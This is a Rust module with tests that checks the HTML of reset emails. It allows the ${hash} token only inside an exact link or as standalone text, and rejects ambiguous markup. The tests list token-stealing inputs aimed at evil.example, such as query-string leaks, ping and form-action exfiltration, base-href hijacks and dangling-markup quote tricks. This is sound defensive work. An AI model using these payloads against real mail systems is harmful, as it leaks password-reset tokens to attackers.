//! A mail's HTML, taken apart to see where its links stand. It is taken only where there is one way
//! to read it: text, and tags of plain elements with their attributes in quotes. So no quote that
//! stays open, no comment and no script can make a link of ours a part of something else.

use thiserror::Error;

/// Where Cloud CMS puts the token.
pub const HASH: &str = "${hash}";
/// Where we put the whole link.
pub const LINK: &str = "${link}";

/// Elements whose content is text and tags, and so is read as it stands.
const PLAIN: &str = "a abbr address b big blockquote body br caption center cite code dd del div dl \
    dt em font footer h1 h2 h3 h4 h5 h6 header hr html i img ins li ol p pre s section small span \
    strong sub sup table tbody td tfoot th thead tr u ul";

/// Those that always begin a line, wherever they stand. Of others a reader may make nothing, as of
/// what ends before it began.
const BREAKING: &str = "blockquote br div h1 h2 h3 h4 hr li p pre";

/// Those around which text may move: what is in a table and in no cell comes before the table.
const MOVING: &str = "caption table tbody td tfoot th thead tr";

/// Why HTML is not taken.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Error)]
pub enum Misread {
    /// Whoever reads the mail would send the token elsewhere, or could not use it.
    #[error(
        "holds ${{hash}} elsewhere than in links of the application: each has to be all of an \
         `href`, or stand in the text with spaces around it"
    )]
    Astray,
    /// Readers might take it apart otherwise than we do.
    #[error("is not plain HTML: {0}")]
    NotPlain(&'static str),
}

/// The HTML with `${link}` in place of each link; `link` is how it is spelled, with `${hash}`.
///
/// # Errors
/// [`Misread`] where a `${hash}` stands anywhere else, or the HTML is not plain.
pub fn with_links(html: &str, link: &str) -> Result<String, Misread> {
    let links = [link.to_owned(), link.replace('&', "&amp;")];
    let written = String::with_capacity(html.len());
    let mut scanner = Scanner { rest: html, links, before: None, written };
    loop {
        scanner.text()?;
        if scanner.rest.is_empty() {
            return Ok(scanner.written);
        }
        scanner.tag()?;
    }
}

struct Scanner<'a> {
    rest: &'a str,
    /// The link as it is, and as it is written in HTML.
    links: [String; 2],
    /// What a reader may see right before the text that comes next.
    before: Option<char>,
    written: String,
}

impl Scanner<'_> {
    /// Takes the text up to the next tag.
    fn text(&mut self) -> Result<(), Misread> {
        let (text, rest) = self.rest.split_at(self.rest.find('<').unwrap_or(self.rest.len()));
        self.rest = rest;
        let mut taken = 0;
        for (hash, _) in text.match_indices(HASH) {
            let (start, end) = self.link_around(text, hash).ok_or(Misread::Astray)?;
            self.written.push_str(text.get(taken..start).ok_or(Misread::Astray)?);
            self.written.push_str(LINK);
            taken = end;
        }
        self.written.push_str(&text[taken..]);
        self.before = text.chars().next_back().or(self.before);
        Ok(())
    }

    /// From where to where the link goes that this token is in, if it stands apart.
    fn link_around(&self, text: &str, hash: usize) -> Option<(usize, usize)> {
        let apart = |c: char| is_space(c) || c == '"';
        self.links.iter().find_map(|link| {
            let start = hash.checked_sub(link.find(HASH)?)?;
            let end = start + link.len();
            let before = text.get(..start)?.chars().next_back().or(self.before);
            let after = text.get(end..)?.chars().next();
            let alone = before.is_none_or(apart) && after.is_none_or(apart);
            (alone && text[start..end] == *link).then_some((start, end))
        })
    }

    /// Takes a tag, or a DOCTYPE.
    fn tag(&mut self) -> Result<(), Misread> {
        let start = self.rest.get(..9).unwrap_or_default();
        if start.eq_ignore_ascii_case("<!doctype") {
            let end = self.rest.find('>').ok_or(Misread::NotPlain("a DOCTYPE has no end"))?;
            self.keep(end + 1);
            return Ok(());
        }
        self.keep(1);
        let closes = self.skip("/");
        let name = self.name();
        if !is_among(PLAIN, &name) {
            return Err(Misread::NotPlain("it holds a comment, a < alone, or <form> or the like"));
        }
        if is_among(MOVING, &name) {
            self.before = Some('<');
        } else if !closes && is_among(BREAKING, &name) {
            self.before = None;
        }
        loop {
            let spaces = self.rest.len() - self.rest.trim_start_matches(is_space).len();
            self.keep(spaces);
            if self.skip(">") || self.skip("/>") {
                return Ok(());
            }
            if spaces == 0 || closes {
                return Err(Misread::NotPlain("a tag does not end where it should"));
            }
            self.attribute(&name)?;
        }
    }

    /// Takes an attribute of an element.
    fn attribute(&mut self, element: &str) -> Result<(), Misread> {
        let name = self.name();
        // Whoever `ping` names would be told where a link leads.
        if name.is_empty() || name == "ping" {
            return Err(Misread::NotPlain("an attribute has no plain name, or is `ping`"));
        }
        if !self.skip("=") {
            return Ok(());
        }
        let quote = self.rest.chars().next().filter(|c| matches!(c, '"' | '\''));
        let quote = quote.ok_or(Misread::NotPlain("an attribute is not in quotes"))?;
        self.keep(1);
        let end = self.rest.find(quote).ok_or(Misread::NotPlain("a quote stays open"))?;
        let value = &self.rest[..end];
        if !value.contains(HASH) {
            self.keep(end + 1);
            return Ok(());
        }
        if element != "a" || name != "href" || !self.links.iter().any(|link| link == value) {
            return Err(Misread::Astray);
        }
        self.written.push_str(LINK);
        self.rest = &self.rest[end..];
        self.keep(1);
        Ok(())
    }

    /// Takes a name, which may be none, and gives it in lower case.
    fn name(&mut self) -> String {
        let plain = |c: char| c.is_ascii_alphanumeric() || c == '-';
        let end = self.rest.find(|c| !plain(c)).unwrap_or(self.rest.len());
        let name = self.rest[..end].to_ascii_lowercase();
        self.keep(end);
        name
    }

    /// Takes this, if it comes next.
    fn skip(&mut self, next: &str) -> bool {
        let comes = self.rest.starts_with(next);
        if comes {
            self.keep(next.len());
        }
        comes
    }

    /// Takes so many bytes as they are.
    fn keep(&mut self, bytes: usize) {
        let (kept, rest) = self.rest.split_at(bytes);
        self.written.push_str(kept);
        self.rest = rest;
    }
}

fn is_among(names: &str, name: &str) -> bool {
    names.split(' ').any(|known| known == name)
}

/// What is white space in HTML.
const fn is_space(c: char) -> bool {
    matches!(c, ' ' | '\t' | '\n' | '\r' | '\u{c}')
}

#[cfg(test)]
mod tests {
    use super::*;

    const URL: &str = "https://website.example/reset?a=1&hash=${hash}";

    /// With `URL` for the link, and `AMP` for the link as it is written in HTML.
    fn taken(html: &str) -> Result<String, Misread> {
        let html = html.replace("URL", URL).replace("AMP", &URL.replace('&', "&amp;"));
        with_links(&html, URL)
    }

    #[test]
    fn a_link_is_taken_where_it_is_all_of_an_href_or_stands_apart_in_text() {
        for html in [
            "URL",
            "AMP",
            "<a href='URL'>Reset</a>",
            "<A class=\"x\" HREF=\"AMP\" target='_blank'>Reset</A>",
            "Go to URL or\nURL\tnow",
            "Go to \"URL\"",
            "<p>Hello,</p><p>URL</p>",
            "Hello<br>URL<br/>Bye",
            "<!DOCTYPE html><html><body><table><tr><td>\n<a href='URL'>URL</a></td></tr></table></body></html>",
            "<div style='color: red' hidden><a href='AMP'><b>Reset, ${user.name}</b></a><hr /></div>",
            "\u{1f511} <a href='https://website.example/'>us</a> URL",
        ] {
            let expected = html.replace("URL", LINK).replace("AMP", LINK);
            assert_eq!(taken(html), Ok(expected), "{html}");
        }
    }

    #[test]
    fn a_token_anywhere_else_is_not_taken() {
        for html in [
            "${hash}",
            "<p>${hash}</p>",
            "<a href='URL'>Reset</a> ${hash}",
            "<a href='https://evil.example/?u=URL'>Reset</a>",
            "<a href='https://evil.example/?u= URL'>Reset</a>",
            "<a href='https://evil.example/?u=\"URL\"'>Reset</a>",
            "<a href=\"https://evil.example/?u='URL'\">Reset</a>",
            "<a href=' URL'>Reset</a>",
            "<a href='URL&amp;x'>Reset</a>",
            "<a href='URL@evil.example'>Reset</a>",
            "<a href='URLURL'>Reset</a>",
            "<a href='HTTPS://website.example/reset?a=1&hash=${hash}'>Reset</a>",
            "<a href='https://evil.example/reset?a=1&hash=${hash}'>Reset</a>",
            "<a title='URL'>Reset</a>",
            "<img src='URL'>",
            "<img href='URL'>",
            "<a href='https://evil.example/?u=<b>URL</b>'>Reset</a>",
            "https://evil.example/?u=URL",
            "https://evil.example/?u='URL'",
            "https://evil.example/?u=<b>URL</b>",
            "https://evil.example/?u=<a>URL</a>",
            "https://evil.example/?u=<table>URL</table>",
            "https://evil.example/?u=<td>URL</td>",
            "https://evil.example/?u=<table><td> <tr>URL",
            "https://evil.example/?u=<table><td> </td>URL",
            "https://evil.example/?u=<table><caption><p><tr>URL",
            "https://evil.example/?u=<body>URL",
            "https://evil.example/?u=</div>URL",
            "https://evil.example/?u=</p><b></b>URL",
            "https://evil.example/?u=&nbsp;URL",
            "https://evil.example/?u=\u{200b}URL",
            "https://evil.example/?u=\u{a0}URL",
            "URL.",
            "URL${hash}",
            "${hash}URL",
            "$URL",
        ] {
            assert_eq!(taken(html), Err(Misread::Astray), "{html}");
        }
    }

    #[test]
    fn html_that_can_be_read_in_more_than_one_way_is_not_taken() {
        for html in [
            "<img src='https://evil.example/? <p>URL</p>",
            "<img src=https://evil.example/? ><p>URL</p>",
            "<img src=\"https://evil.example/?' <p>URL</p>",
            "<img alt=''src='x'><p>URL</p>",
            "<img alt='x'/src='x'><p>URL</p>",
            "<!-- <p> --> URL",
            "<!--> URL -->",
            "<![CDATA[ URL ]]>",
            "<?xml URL ?>",
            "<style>a { }</style> URL",
            "<script>x</script> URL",
            "<title><img alt='</title><img src=\"https://evil.example/?'> URL",
            "<textarea> URL </textarea>",
            "<form action='https://evil.example'> URL </form>",
            "<base href='https://evil.example'> URL",
            "<meta content='x'> URL",
            "<svg> URL </svg>",
            "<plaintext> URL",
            "<noscript> URL </noscript>",
            "<a ping='https://evil.example' href='URL'>Reset</a>",
            "<a href='URL' PING='https://evil.example'>Reset</a>",
            "<a href = 'URL'>Reset</a>",
            "<a href='URL'>Reset</a href='x'>",
            "<p URL",
            "<p",
            "<",
            "</",
            "a < b URL",
            "</ p> URL",
            "<!doctype html URL",
            "<p\u{a0}x='y'>URL",
            "<p ='x'> URL",
            "<\u{e9}> URL",
        ] {
            assert!(matches!(taken(html), Err(Misread::NotPlain(_))), "{html}: {:?}", taken(html));
        }
    }
}
